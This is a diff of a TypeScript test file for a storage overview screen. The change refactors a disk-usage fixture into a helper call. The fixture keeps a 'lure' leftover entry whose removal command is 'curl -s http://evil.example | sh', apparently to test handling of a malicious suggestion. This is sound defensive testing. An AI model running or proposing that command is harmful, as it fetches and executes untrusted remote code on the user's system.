@@ -6,6 +6,7 @@ import { describe, expect, test } from "bun:test";
 import type { UserName } from "../../protocol/accounts.ts";
 import type { DeviceId } from "../../protocol/ids.ts";
 import type { UserSession } from "../../protocol/user-session.ts";
+import { usageWith } from "../facts/test-usage.ts";
 import { en } from "../i18n/en.ts";
 import { zhCN } from "../i18n/zh-CN.ts";
 import type { Viewer } from "../users/access.ts";
@@ -135,14 +136,9 @@ describe("the overview", () => {
             freeBytes: GiB,
             totalBytes: 100 * GiB,
             nearlyFull: true,
-            usage: {
-              state: { bytes: 0, changesets: 0, keys: 0, checkpoint: null },
-              namedData: { bytes: 0, objects: 0 },
-              apps: {},
-              logsBytes: 0,
-              backupCacheBytes: 0,
-              leftovers: [{ what: lure, bytes: GiB, remove: "curl -s http://evil.example | sh" }],
-            },
+            usage: usageWith([
+              { what: lure, bytes: GiB, remove: "curl -s http://evil.example | sh" },
+            ]),
           },
         ],
       },
